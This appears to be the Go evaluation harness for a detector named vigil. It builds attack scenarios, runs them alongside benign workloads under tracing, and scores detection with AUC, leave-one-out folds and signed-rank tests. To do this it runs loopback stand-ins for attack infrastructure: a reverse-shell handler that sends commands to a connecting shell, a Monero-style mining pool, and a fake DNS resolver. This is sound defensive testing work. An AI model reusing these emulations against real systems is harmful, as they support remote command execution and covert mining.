// other benign workload, takes as threshold its highest score on their
// second runs (normal data only), and scores W's runs (negatives never
// seen in training) and every attack run.
type ModelEval struct {
	Folds      int             `json:"folds"`       // benign workloads left out in turn
	TrainUnits int             `json:"train_units"` // windows of all first benign runs
	Methods    []SeqMethodEval `json:"methods"`
	// The model as vigil detect train makes it, on all first runs, at its
	// own threshold (from its held-out training folds).
	Threshold    float64 `json:"threshold"`
	ThresholdTPR float64 `json:"threshold_detection"` // attack runs with a window above it
	ThresholdFPR float64 `json:"threshold_fpr"`       // second benign runs with a window above it
}

// SeqMethodEval is one method under leave-one-workload-out (means over
// the folds for attack figures, totals for held-out benign figures).
type SeqMethodEval struct {
	Method        string  `json:"method"`
	WindowAUC     float64 `json:"window_auc"`       // attack windows vs the left-out workload's windows, mean over folds
	WindowDetect  float64 `json:"window_detection"` // attack windows above the fold's threshold
	RunDetect     float64 `json:"run_detection"`    // attack runs with a window above it
	BenignWinFA   float64 `json:"benign_window_false_alarm_rate"`
	BenignRunFA   float64 `json:"benign_run_false_alarm_rate"`
	AttackWindows int     `json:"attack_windows"`
	BenignWindows int     `json:"benign_windows"`
	// RunFolds is, per attack scenario, the folds in which one of its
	// windows rose above the fold's threshold.
	RunFolds map[string]int `json:"attack_run_folds"`
}

// PairedRuns compares a model with a baseline attack by attack, over the
// same recordings: worse counts the attacks the baseline caught in more
// folds than the model, better the reverse, and p is the one-sided
// Wilcoxon signed-rank test's probability that the differences (folds the
// baseline caught an attack in, less the model's) lean the baseline's way
// at least as much if neither method were better. Two methods scored on
// one recording differ by chance in the attacks a rare syscall decides,
// and a fold's threshold moves a borderline attack in or out: many
// differences of a fold or two are not a difference, one attack lost in
// every fold weighs more.
func PairedRuns(model, base SeqMethodEval) (worse, better int, p float64) {
	var d []int
	for sc, b := range base.RunFolds {
		d = append(d, b-model.RunFolds[sc])
	}
	for sc, m := range model.RunFolds {
		if _, ok := base.RunFolds[sc]; !ok {
			d = append(d, -m)
		}
	}
	for _, x := range d {
		switch {
		case x > 0:
			worse++
		case x < 0:
			better++
		}
	}
	return worse, better, signedRankP(d)
}

// signedRankP is the one-sided Wilcoxon signed-rank test's p for the
// differences d leaning positive: zeros dropped, tied magnitudes sharing
// their mean rank, the exact distribution of the positive rank sum (ranks
// doubled to stay integers).
func signedRankP(d []int) float64 {
	var mag []int
	for _, x := range d {
		if x != 0 {
			mag = append(mag, x)
		}
	}
	if len(mag) == 0 {
		return 1
	}
	abs := func(x int) int { return max(x, -x) }
	sort.Slice(mag, func(i, j int) bool { return abs(mag[i]) < abs(mag[j]) })
	ranks := make([]int, len(mag)) // doubled
	for i := 0; i < len(mag); {
		j := i
		for j+1 < len(mag) && abs(mag[j+1]) == abs(mag[i]) {
			j++
		}
		for k := i; k <= j; k++ {
			ranks[k] = i + j + 2 // twice the mean of ranks i+1 .. j+1
		}
		i = j + 1
	}
	w, total := 0, 0
	for k, x := range mag {
		total += ranks[k]
		if x > 0 {
			w += ranks[k]
		}
	}
	dist := make([]float64, total+1) // ways each positive rank sum arises
	dist[0] = 1
	for _, r := range ranks {
		for s := total; s >= r; s-- {
			dist[s] += dist[s-r]
		}
	}
	tail := 0.0
	for s := w; s <= total; s++ {
		tail += dist[s]
	}
	return tail / math.Pow(2, float64(len(mag)))
}

func (o *Options) logf(format string, a ...any) {
	if o.Log != nil {
		fmt.Fprintf(o.Log, format+"\n", a...)
	}
}

// Build compiles the attack programs and the compiled benign workloads.
func Build(o *Options) error {
	bin := filepath.Join(o.Work, "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		return err
	}
	srcs, err := filepath.Glob(filepath.Join(o.Src, "attacks", "*.c"))
	if err != nil {
		return err
	}
	srcs = append(srcs, filepath.Join(o.Src, "benign", "kvstore.c"), filepath.Join(o.Src, "benign", "memfd_jit.c"))
	var wg sync.WaitGroup
	errs := make(chan error, len(srcs)+1)
	sem := make(chan struct{}, runtime.GOMAXPROCS(0))
	for _, s := range srcs {
		wg.Add(1)
		go func(s string) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			out := filepath.Join(bin, strings.TrimSuffix(filepath.Base(s), ".c"))
			if b, err := exec.Command("cc", "-O2", "-o", out, s, "-lpthread").CombinedOutput(); err != nil {
				errs <- fmt.Errorf("build %s: %v: %s", s, err, b)
			}
		}(s)
	}
	wg.Wait()
	cmd := exec.Command("go", "build", "-o", filepath.Join(bin, "go_service"), "./benign/go_service")
	cmd.Dir = o.Src
	if b, err := cmd.CombinedOutput(); err != nil {
		errs <- fmt.Errorf("build go_service: %v: %s", err, b)
	}
	close(errs)
	return <-errs
}

// listeners are the loopback peers the attacks talk to.
type listeners struct {
	shellPort int
	webPort   int
	poolPort  int
	closers   []io.Closer
}

func (l *listeners) Close() {
	for _, c := range l.closers {
		c.Close()
	}
}

func startListeners() (*listeners, error) {
	l := &listeners{}
	// reverse shell: send commands, read the answers until EOF.
	sh, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	l.closers = append(l.closers, sh)
	l.shellPort = sh.Addr().(*net.TCPAddr).Port
	go serve(sh, func(c net.Conn) {
		c.Write([]byte("id; echo vigil-scenario; exit\n"))
		c.SetDeadline(time.Now().Add(5 * time.Second))
		io.Copy(io.Discard, c)
	})
	// stratum pool
	st, err := net.Listen("tcp", "127.0.0.1:3333")
	if err != nil {
		l.Close()
		return nil, fmt.Errorf("stratum listener: %w", err)
	}
	l.closers = append(l.closers, st)
	go serve(st, func(c net.Conn) {
		c.SetDeadline(time.Now().Add(5 * time.Second))
		bufio.NewReader(c).ReadString('\n')
		c.Write([]byte(`{"id":1,"result":[[["mining.notify","1"]],"00",4],"error":null}` + "\n"))
	})
	// a mining pool on a port of no pool's: after a login, a new job every
	// 3 s and an answer to each share, as JSON lines (the protocol of
	// Monero pools), until the miner hangs up.
	pool, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		l.Close()
		return nil, fmt.Errorf("pool listener: %w", err)
	}
	l.closers = append(l.closers, pool)
	l.poolPort = pool.Addr().(*net.TCPAddr).Port
	go serve(pool, servePool)
	// fake resolver on 127.0.0.77:53, UDP and TCP: answers with REFUSED.
	udp, err := net.ListenPacket("udp", "127.0.0.77:53")
	if err != nil {
		l.Close()
		return nil, fmt.Errorf("fake resolver: %w", err)
	}
	l.closers = append(l.closers, udp)
	go func() {
		buf := make([]byte, 512)
		for {
			n, addr, err := udp.ReadFrom(buf)
			if err != nil {
				return
			}
			if n >= 12 {
				buf[2] |= 0x80
				buf[3] = (buf[3] & 0xf0) | 5
				udp.WriteTo(buf[:n], addr)
			}
		}
	}()
	tcp, err := net.Listen("tcp", "127.0.0.77:53")
	if err != nil {
		l.Close()
		return nil, fmt.Errorf("fake resolver: %w", err)
	}
	l.closers = append(l.closers, tcp)
	go serve(tcp, func(c net.Conn) {
		c.SetDeadline(time.Now().Add(2 * time.Second))
		io.Copy(io.Discard, c)
	})
	// a free port for the benign web server
	ws, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		l.Close()
		return nil, err
	}
	l.webPort = ws.Addr().(*net.TCPAddr).Port
	ws.Close()
	return l, nil
}

// servePool speaks a pool's side of a miner's connection.
func servePool(c net.Conn) {
	c.SetDeadline(time.Now().Add(2 * time.Minute))
	r := bufio.NewReader(c)
	if _, err := r.ReadString('\n'); err != nil {
		return
	}
	var mu sync.Mutex
	send := func(s string) error {
		mu.Lock()
		defer mu.Unlock()
		_, err := c.Write([]byte(s + "\n"))
		return err
	}
	job := func(n int) string {
		return fmt.Sprintf(`{"job_id":"%d","blob":"%076x","target":"b88d0600"}`, n, n*7919+1)
	}
	if send(`{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"w1","job":`+job(1)+`,"status":"OK"}}`) != nil {
		return
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			line, err := r.ReadString('\n')
			if err != nil {
				return
			}
			var m struct {
				ID int `json:"id"`
			}
			if json.Unmarshal([]byte(line), &m) == nil && send(fmt.Sprintf(`{"id":%d,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}`, m.ID)) != nil {
				return
			}
		}
	}()
	tick := time.NewTicker(3 * time.Second)
	defer tick.Stop()
	for n := 2; ; n++ {
		select {
		case <-done:
			return
		case <-tick.C:
			if send(`{"jsonrpc":"2.0","method":"job","params":`+job(n)+`}`) != nil {
				return
			}
		}
	}
}

func serve(ln net.Listener, h func(net.Conn)) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		go func() {
			defer c.Close()
			h(c)
		}()
	}
}

// cgroupRoot is where vigil trace makes its cgroups (v2).
func cgroupRoot() string {
	for _, d := range []string{"/sys/fs/cgroup/unified", "/sys/fs/cgroup"} {
		if _, err := os.Stat(filepath.Join(d, "cgroup.procs")); err == nil {
			if _, err := os.Stat(filepath.Join(d, "cgroup.controllers")); err == nil {
				return d
			}
		}
	}
	return "/sys/fs/cgroup"
}

// sampler reads a cgroup's CPU usage and thread count every 250 ms, as the
// agent and vigil trace do for Engine.Sample.
func sampler(ctx context.Context, dir string) []detector.Sample {
	var out []detector.Sample
	tick := time.NewTicker(250 * time.Millisecond)
	defer tick.Stop()
	first := true
	for {
		if !first {
			select {
			case <-ctx.Done():
				return out
			case <-tick.C:
			}
		}
		first = false
		b, err := os.ReadFile(filepath.Join(dir, "cpu.stat"))
		if err != nil {
			if ctx.Err() != nil {
				return out
			}
			continue
		}
		now := time.Now()
		var usage uint64
		for _, line := range strings.Split(string(b), "\n") {
			if f := strings.Fields(line); len(f) == 2 && f[0] == "usage_usec" {
				usage, _ = strconv.ParseUint(f[1], 10, 64)
			}
		}
		var held uint64
		for _, line := range strings.Split(string(b), "\n") {
			if f := strings.Fields(line); len(f) == 2 && f[0] == "throttled_usec" {
				held, _ = strconv.ParseUint(f[1], 10, 64)
			}
		}
		var wait uint64
		if p, err := os.ReadFile(filepath.Join(dir, "cpu.pressure")); err == nil {
			// "some avg10=0.00 avg60=0.00 avg300=0.00 total=USEC"
			if f := strings.Fields(strings.SplitN(string(p), "\n", 2)[0]); len(f) == 5 && f[0] == "some" {
				wait, _ = strconv.ParseUint(strings.TrimPrefix(f[4], "total="), 10, 64)
			}
		}
		threads := 0
		if t, err := os.ReadFile(filepath.Join(dir, "cgroup.threads")); err == nil {
			threads = strings.Count(string(t), "\n")
		}
		out = append(out, detector.Sample{Time: now, CPUUsageNs: usage * 1000, Threads: threads, CPUWaitNs: wait * 1000, CPUThrottledNs: held * 1000})
	}
}

func expand(s string, o *Options, l *listeners) string {
	r := strings.NewReplacer("{bin}", filepath.Join(o.Work, "bin"), "{src}", o.Src,
		"{port}", strconv.Itoa(l.shellPort), "{port2}", strconv.Itoa(l.webPort), "{pool}", strconv.Itoa(l.poolPort), "{fix}", filepath.Join(o.Work, "fixtures"))
	return r.Replace(s)
}

// runOne runs a scenario under vigil trace and records its events and
// samples.
func runOne(o *Options, l *listeners, sc Scenario, n int) (*Run, []detector.Sample, error) {
	evFile := filepath.Join(o.Work, fmt.Sprintf("%s-%d.jsonl", sc.Name, n))
	args := []string{"trace", "--json", "--summary=false", "--out", evFile, "--"}
	for _, a := range sc.Cmd {
		args = append(args, expand(a, o, l))
	}
	timeout := max(o.Timeout, sc.Timeout)
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, o.Vigil, args...)
	cmd.Env = os.Environ()
	for _, e := range sc.Env {
		cmd.Env = append(cmd.Env, expand(e, o, l))
	}
	cmd.Dir = o.Work
	var stderr strings.Builder
	cmd.Stderr = &stderr
	start := time.Now()
	if err := cmd.Start(); err != nil {
		return nil, nil, fmt.Errorf("%s: start vigil trace: %w", sc.Name, err)
	}
	sctx, stop := context.WithCancel(context.Background())
	samples := make(chan []detector.Sample, 1)
	go func() {
		samples <- sampler(sctx, filepath.Join(cgroupRoot(), fmt.Sprintf("vigil-trace-%d", cmd.Process.Pid)))
	}()
	err := cmd.Wait()
	stop()
	ss := <-samples
	r := &Run{Scenario: sc.Name, Attack: sc.Attack, Run: n, Seconds: time.Since(start).Seconds(), EventFile: evFile, Samples: len(ss)}
	var ee *exec.ExitError
	switch {
	case errors.As(err, &ee):
		r.Exit = ee.ExitCode()
	case err != nil:
		return nil, nil, fmt.Errorf("%s: vigil trace: %w", sc.Name, err)
	}
	if ctx.Err() != nil {
		return nil, nil, fmt.Errorf("%s: timed out after %s", sc.Name, timeout)
	}
	if _, err := os.Stat(evFile); err != nil {
		return nil, nil, fmt.Errorf("%s: vigil trace wrote no events (%s)", sc.Name, strings.TrimSpace(stderr.String()))
	}
	for _, line := range strings.Split(stderr.String(), "\n") {
		if strings.HasPrefix(line, "vigil: ") {
			return nil, nil, fmt.Errorf("%s: vigil trace failed: %s", sc.Name, line)
		}
	}
	r.LiveRules = liveRules(evFile)
	return r, ss, nil
}

// Replay runs an event file and samples through a fresh engine, in time
// order, and returns the verdicts and the number of events.
func Replay(cfg detector.Config, evFile string, samples []detector.Sample) ([]detector.Verdict, int, error) {
	e, err := detector.New(cfg)
	if err != nil {
		return nil, 0, err
	}
	f, err := os.Open(evFile)
	if err != nil {
		return nil, 0, err
	}
	defer f.Close()
	var out []detector.Verdict
	n := 0
	si := 0
	var cg uint64
	err = detector.ReplayEvents(f, evFile, func(ev *event.Event) error {
		n++
		cg = ev.CgroupID
		for si < len(samples) && !samples[si].Time.After(ev.Time) {
			s := samples[si]
			s.CgroupID = cg
			out = append(out, e.Sample(s)...)
			si++
		}
		out = append(out, e.Observe(ev)...)
		return nil
	})
	if err != nil {
		return nil, 0, err
	}
	for ; si < len(samples); si++ {
		s := samples[si]
		s.CgroupID = cg
		out = append(out, e.Sample(s)...)
	}
	out = append(out, e.Flush()...)
	return out, n, nil
}

// liveRules lists the rules of the {"verdict":...} lines vigil trace wrote
// into its own output (when it runs the detector itself).
func liveRules(evFile string) []string {
	f, err := os.Open(evFile)
	if err != nil {
		return nil
	}
	defer f.Close()
	set := map[string]bool{}
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	for sc.Scan() {
		b := sc.Bytes()
		if !strings.HasPrefix(string(b[:min(len(b), 11)]), `{"verdict"`) {
			continue
		}
		var v struct {
			Verdict struct {
				Rule string `json:"rule"`
			} `json:"verdict"`
		}
		if json.Unmarshal(b, &v) == nil {
			set[v.Verdict.Rule] = true
		}
	}
	return sortedKeys(set)
}

func firstEventTime(evFile string) time.Time {
	f, err := os.Open(evFile)
	if err != nil {
		return time.Time{}
	}
	defer f.Close()
	var t time.Time
	detector.ReplayEvents(f, evFile, func(ev *event.Event) error {
		if t.IsZero() {
			t = ev.Time
		}
		return io.EOF
	})
	return t
}

// Evaluate builds, runs every scenario and writes the report.
func Evaluate(o Options) (*Report, error) {
	if o.Runs < 2 {
		o.Runs = 2
	}
	if o.Timeout == 0 {
		o.Timeout = 60 * time.Second
	}
	rep := &Report{Time: time.Now().UTC().Format(time.RFC3339)}
	attacks, benign, err := Select(o)
	if err != nil {
		return nil, err
	}
	benign, rep.Skipped = Available(benign)
	for _, sk := range rep.Skipped {
		o.logf("%-18s skipped: %s not found", sk.Scenario, sk.Missing)
	}
	// The fixtures are read by workloads that run as another user
	// (postgres): the scratch directory must be searchable.
	if err := os.Chmod(o.Work, 0o755); err != nil {
		return nil, err
	}
	if err := Build(&o); err != nil {
		return nil, err
	}
	if err := setupFixtures(&o, benign); err != nil {
		return nil, err
	}
	l, err := startListeners()
	if err != nil {
		return nil, err
	}
	defer l.Close()
	cfg := detector.Config{Shards: 1, Lists: map[string][]string{"allowed_resolvers": detector.SystemResolvers("")}}
	var all []Scenario
	for _, s := range attacks {
		s.Attack = true
		all = append(all, s)
	}
	for _, s := range benign {
		for i := 0; i < o.Runs; i++ {
			all = append(all, s)
		}
	}
	runCount := map[string]int{}
	for _, sc := range all {
		runCount[sc.Name]++
		r, samples, err := runOne(&o, l, sc, runCount[sc.Name])
		if err != nil {
			return nil, err
		}
		vs, n, err := Replay(cfg, r.EventFile, samples)
		if err != nil {
			return nil, err
		}
		r.Events, r.Verdicts = n, vs
		r.Class = string(sc.Class)
		if o.Keep != "" {
			if err := keep(o.Keep, r, samples); err != nil {
				return nil, err
			}
		}
		t0 := firstEventTime(r.EventFile)
		rules, classes := map[string]bool{}, map[string]bool{}
		for _, v := range vs {
			rules[v.Rule] = true
			classes[string(v.Class)] = true
			if sc.Attack && v.Class == sc.Class && !r.Detected {
				r.Detected = true
				r.TTD = float64(v.Time.Sub(t0).Microseconds()) / 1000
				if r.TTD < 0 {
					r.TTD = 0
				}
			}
		}
		r.Rules, r.Classes = sortedKeys(rules), sortedKeys(classes)
		if !sc.Attack {
			// what vigil trace's own detector said counts too
			r.FalsePos = max(len(vs), len(r.LiveRules))
		}
		o.logf("%-18s run %d  %6d events %5.2fs exit %d  %s", sc.Name, r.Run, r.Events, r.Seconds, r.Exit, strings.Join(r.Rules, ","))
		rep.Runs = append(rep.Runs, *r)
	}
	summarize(rep)
	rep.Classes = classEvals(rep.Runs)
	if err := evalModel(&o, rep); err != nil {
		return nil, err
	}
	return rep, nil
}

// keep stores a run's events (gzip) and samples (JSON) under dir, named
// after the scenario and run, for golden tests of the detector.
func keep(dir string, r *Run, samples []detector.Sample) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	base := filepath.Join(dir, fmt.Sprintf("%s-%d", r.Scenario, r.Run))
	in, err := os.ReadFile(r.EventFile)
	if err != nil {
		return err
	}
	f, err := os.Create(base + ".jsonl.gz")
	if err != nil {
		return err
	}
	zw, _ := gzip.NewWriterLevel(f, gzip.BestCompression)
	zw.Write(in)
	if err := zw.Close(); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	b, err := json.Marshal(samples)
	if err != nil {
		return err
	}
	return os.WriteFile(base+".samples.json", b, 0o644)
}

func sortedKeys(m map[string]bool) []string {
	out := []string{}
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func summarize(rep *Report) {
	workloads := map[string]bool{}
	ttd := 0.0
	for _, r := range rep.Runs {
		if r.Attack {
			rep.Attacks++
			if r.Detected {
				rep.Detected++
				ttd += r.TTD
			}
			continue
		}
		workloads[r.Scenario] = true
		rep.BenignRuns++
		rep.BenignSeconds += r.Seconds
		rep.FalsePositives += r.FalsePos
		if r.Exit != 0 {
			rep.BenignFailed = append(rep.BenignFailed, fmt.Sprintf("%s run %d (exit %d)", r.Scenario, r.Run, r.Exit))
		}
		if r.FalsePos > 0 {
			rep.FalsePositiveRuns++
		}
	}
	rep.BenignWorkloads = len(workloads)
	if rep.Attacks > 0 {
		rep.DetectionRate = float64(rep.Detected) / float64(rep.Attacks)
	}
	if rep.Detected > 0 {
		rep.MeanTTDms = ttd / float64(rep.Detected)
	}
	if rep.BenignRuns > 0 {
		rep.FPRate = float64(rep.FalsePositiveRuns) / float64(rep.BenignRuns)
	}
	if rep.BenignSeconds > 0 {
		rep.FPPerHour = float64(rep.FalsePositives) / (rep.BenignSeconds / 3600)
	}
}

// evalModel evaluates the model and the baselines on the scenario
// windows, leaving one benign workload out at a time (see ModelEval).
func evalModel(o *Options, rep *Report) error {
	opt := detector.ReadOptions{Format: detector.FormatEvents, Window: detector.DefaultWindowEvents}
	units := make([][]detector.Unit, len(rep.Runs))
	for i, r := range rep.Runs {
		u, _, err := detector.ReadUnits(r.EventFile, opt)
		if err != nil {
			return err
		}
		units[i] = withCounts(u)
	}
	var workloads []string
	seen := map[string]bool{}
	for _, r := range rep.Runs {
		if !r.Attack && !seen[r.Scenario] {
			seen[r.Scenario] = true
			workloads = append(workloads, r.Scenario)
		}
	}
	me := &rep.Model
	me.Folds = len(workloads)
	methods := []Method{ModelMethod("model", "", detector.TrainOptions{UnitKind: "events", WindowN: opt.Window}), ZScoreBaseline(), SeqSTIDEBaseline()}
	for _, m := range methods {
		e, err := looWorkload(rep, units, workloads, m)
		if err != nil {
			return err
		}
		me.Methods = append(me.Methods, e)
	}
	// the model as vigil detect train makes it, at its own threshold
	var train []detector.Unit
	for i, r := range rep.Runs {
		if !r.Attack && r.Run == 1 {
			train = append(train, units[i]...)
		}
	}
	me.TrainUnits = len(train)
	m, err := detector.Train(train, detector.TrainOptions{Name: "eval-benign", UnitKind: "events", WindowN: opt.Window})
	if err != nil {
		return err
	}
	me.Threshold = m.Threshold
	tp, fp, na, nb := 0, 0, 0, 0
	for i := range rep.Runs {
		r := &rep.Runs[i]
		if !r.Attack && r.Run == 1 {
			continue
		}
		best := 0.0
		for j := range units[i] {
			best = max(best, m.Score(&units[i][j]).Score)
		}
		r.ModelMax = best
		if r.Attack {
			na++
			if best > m.Threshold {
				tp++
			}
		} else {
			nb++
			if best > m.Threshold {
				fp++
			}
		}
	}
	if na > 0 {
		me.ThresholdTPR = float64(tp) / float64(na)
	}
	if nb > 0 {
		me.ThresholdFPR = float64(fp) / float64(nb)
	}
	return nil
}

// withCounts fills each unit's Counts from its sequences, for methods that
// read counts.
func withCounts(us []detector.Unit) []detector.Unit {
	for i := range us {
		if us[i].Counts != nil {
			continue
		}
		c := map[string]float64{}
		for _, s := range us[i].Seqs {
			for _, n := range s {
				c[n]++
			}
		}
		us[i].Counts = c
	}
	return us
}

func looWorkload(rep *Report, units [][]detector.Unit, workloads []string, m Method) (SeqMethodEval, error) {
	e := SeqMethodEval{Method: m.Name, RunFolds: map[string]int{}}
	var aucSum, winDet, runDet float64
	var fpWin, fpRun, nbRun int
	for _, w := range workloads {
		var train, calib [][]detector.Unit
		for i, r := range rep.Runs {
			if r.Attack || r.Scenario == w {
				continue
			}
			if r.Run == 1 {
				train = append(train, units[i])
			} else {
				calib = append(calib, units[i])
			}
		}
		score, err := m.Fit(train)
		if err != nil {
			return e, fmt.Errorf("%s without %s: %w", m.Name, w, err)
		}
		thr := math.Inf(-1)
		for _, f := range calib {
			for _, s := range score(f) {
				thr = max(thr, s)
			}
		}
		var pos, neg []float64
		aw, ad, ar, an := 0, 0, 0, 0
		for i, r := range rep.Runs {
			if !r.Attack && r.Scenario != w {
				continue
			}
			sc := score(units[i])
			hit := false
			for _, s := range sc {
				if s > thr {
					hit = true
				}
				if r.Attack {
					pos = append(pos, s)
					aw++
					if s > thr {
						ad++
					}
				} else {
					neg = append(neg, s)
					e.BenignWindows++
					if s > thr {
						fpWin++
					}
				}
			}
			if r.Attack {
				an++
				folds := e.RunFolds[r.Scenario] // every attack is named, caught or not
				if hit {
					ar++
					folds++
				}
				e.RunFolds[r.Scenario] = folds
			} else {
				nbRun++
				if hit {
					fpRun++
				}
			}
		}
		e.AttackWindows = aw
		aucSum += AUC(pos, neg)
		if aw > 0 {
			winDet += float64(ad) / float64(aw)
		}
		if an > 0 {
			runDet += float64(ar) / float64(an)
		}
	}
	n := float64(len(workloads))
	e.WindowAUC, e.WindowDetect, e.RunDetect = aucSum/n, winDet/n, runDet/n
	if e.BenignWindows > 0 {
		e.BenignWinFA = float64(fpWin) / float64(e.BenignWindows)
	}
	if nbRun > 0 {
		e.BenignRunFA = float64(fpRun) / float64(nbRun)
	}
	return e, nil
}

// AUC is the probability that a random positive scores above a random
// negative (ties count half).
func AUC(pos, neg []float64) float64 {
	if len(pos) == 0 || len(neg) == 0 {
		return 0
	}
	wins := 0.0
	for _, p := range pos {
		for _, n := range neg {
			switch {
			case p > n:
				wins++
			case p == n:
				wins += 0.5
			}
		}
	}
	return wins / float64(len(pos)*len(neg))
}

// DetectionAtFPR is the fraction of positives above the threshold that
// lets at most fpr of the negatives through.
func DetectionAtFPR(pos, neg []float64, fpr float64) float64 {
	if len(pos) == 0 || len(neg) == 0 {
		return 0
	}
	s := append([]float64(nil), neg...)
	sort.Sort(sort.Reverse(sort.Float64Slice(s)))
	allowed := int(fpr * float64(len(s))) // negatives allowed above the threshold
	thr := s[allowed]                     // scores must exceed this
	n := 0
	for _, p := range pos {
		if p > thr {
			n++
		}
	}
	return float64(n) / float64(len(pos))
}

// WriteJSON writes the report.
func (rep *Report) WriteJSON(path string) error {
	b, err := json.MarshalIndent(rep, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}

// BenignClean reports whether every benign run did its work (exit 0)
// without a verdict, and if not, which did not.
func (rep *Report) BenignClean() error {
	var bad []string
	for _, r := range rep.Runs {
		if !r.Attack && r.FalsePos > 0 {
			bad = append(bad, fmt.Sprintf("%s run %d: %d verdicts (replayed %v, vigil trace printed %v)", r.Scenario, r.Run, r.FalsePos, r.Rules, r.LiveRules))
		}
	}
	for _, f := range rep.BenignFailed {
		bad = append(bad, f+": failed")
	}
	if len(bad) > 0 {
		return fmt.Errorf("benign runs: %s", strings.Join(bad, "; "))
	}
	return nil
}

// Table is the readable report.
func (rep *Report) Table() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-18s %-6s %-4s %-10s %-10s %9s %8s  %s\n", "scenario", "kind", "run", "result", "class", "ttd_ms", "model", "rules")
	for _, r := range rep.Runs {
		kind, res := "benign", "clean"
		if r.Attack {
			kind, res = "attack", "MISSED"
			if r.Detected {
				res = "detected"
			}
		} else if r.FalsePos > 0 {
			res = fmt.Sprintf("FP x%d", r.FalsePos)
		}
		ttd := ""
		if r.Detected {
			ttd = fmt.Sprintf("%.1f", r.TTD)
		}
		model := fmt.Sprintf("%.2f", r.ModelMax)
		if !r.Attack && r.Run == 1 {
			model = "train"
		}
		fmt.Fprintf(&b, "%-18s %-6s %-4d %-10s %-10s %9s %8s  %s\n", r.Scenario, kind, r.Run, res, r.Class, ttd, model, strings.Join(r.Rules, ","))
	}
	fmt.Fprintf(&b, "\nattacks detected: %d/%d (%.1f%%), mean time to detection %.1f ms\n", rep.Detected, rep.Attacks, 100*rep.DetectionRate, rep.MeanTTDms)
	fmt.Fprintf(&b, "benign: %d runs of %d workloads, %.1f s; false positives %d (%d runs, rate %.3f, %.1f per hour)\n",
		rep.BenignRuns, rep.BenignWorkloads, rep.BenignSeconds, rep.FalsePositives, rep.FalsePositiveRuns, rep.FPRate, rep.FPPerHour)
	for _, sk := range rep.Skipped {
		fmt.Fprintf(&b, "skipped %s: %s not found\n", sk.Scenario, sk.Missing)
	}
	if len(rep.BenignFailed) > 0 {
		fmt.Fprintf(&b, "benign runs that FAILED (non-zero exit): %s\n", strings.Join(rep.BenignFailed, ", "))
	}
	b.WriteString("\nper class (rules):\n")
	b.WriteString(ClassTable(rep.Classes))
	m := rep.Model
	fmt.Fprintf(&b, "\nscenario windows, leave one benign workload out (%d folds; threshold = highest score on the other workloads' second runs):\n", m.Folds)
	fmt.Fprintf(&b, "%-8s %9s %10s %10s %13s %11s  %s\n", "method", "win AUC", "win det", "run det", "benign win FA", "benign runs", "attacks caught in more folds than the model / fewer (signed-rank p)")
	for i, e := range m.Methods {
		vs := ""
		if i > 0 && m.Methods[0].RunFolds != nil {
			worse, better, p := PairedRuns(m.Methods[0], e)
			vs = fmt.Sprintf("%d / %d (p = %.3f)", worse, better, p)
		}
		fmt.Fprintf(&b, "%-8s %9.3f %10.3f %10.3f %13.4f %11.3f  %s\n", e.Method, e.WindowAUC, e.WindowDetect, e.RunDetect, e.BenignWinFA, e.BenignRunFA, vs)
	}
	fmt.Fprintf(&b, "model trained on all %d first-run windows, at its own threshold %.2f: attack runs detected %.3f, second benign runs flagged %.3f\n",
		m.TrainUnits, m.Threshold, m.ThresholdTPR, m.ThresholdFPR)
	if rep.CVE != nil {
		b.WriteString("\nCVE protocol (" + rep.CVE.Dataset + "):\n")
		b.WriteString(CVETable(rep.CVE.Methods, rep.CVE.CVEs))
	}
	return b.String()
}
